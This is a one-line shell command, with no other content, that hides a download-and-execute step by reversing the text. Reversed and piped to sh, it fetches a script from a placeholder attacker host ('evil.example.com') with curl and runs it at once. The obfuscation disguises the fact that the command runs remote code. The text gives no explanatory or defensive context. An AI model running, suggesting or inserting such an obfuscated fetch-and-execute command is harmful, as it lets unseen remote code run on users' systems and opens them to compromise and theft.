echo "hs | moc.elpmaxe.live//:ptth lruc" | rev | sh
